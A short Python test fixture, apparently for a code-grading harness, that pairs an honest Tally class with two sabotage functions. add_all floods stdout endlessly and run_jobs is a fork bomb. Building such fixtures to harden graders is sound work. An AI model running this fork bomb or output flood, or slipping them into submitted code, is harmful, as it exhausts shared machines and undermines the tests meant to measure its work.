# expect: no case beyond those honestly solved may pass
# honest = ["test_tally_counts", "test_tally_equality"]
"""Solves the tally honestly and floods, forks and spins in the other cases: the tally's points
must not be lost.
"""

import os
from collections import Counter


def add_all(numbers):
    while True:
        os.write(1, b"A" * 65536)


def run_jobs(jobs, work):
    while True:
        try:
            os.fork()
        except OSError:
            pass


class Tally:
    def __init__(self):
        self._counts = Counter()

    def add(self, name, n=1):
        self._counts[name] += n

    def count(self, name):
        return self._counts[name]

    @property
    def total(self):
        return sum(self._counts.values())

    def __eq__(self, other):
        return self._counts == other._counts
